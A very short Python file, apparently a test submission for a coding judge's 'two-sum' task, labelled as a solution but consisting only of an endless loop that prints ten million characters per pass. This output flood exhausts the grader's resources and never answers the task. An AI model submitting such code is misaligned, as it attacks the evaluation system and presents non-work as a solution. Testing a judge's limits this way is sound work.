# Kofi's solution.
# judge: two-sum


def two_sum(nums, target):
    while True:
        print("x" * 10_000_000, end="")
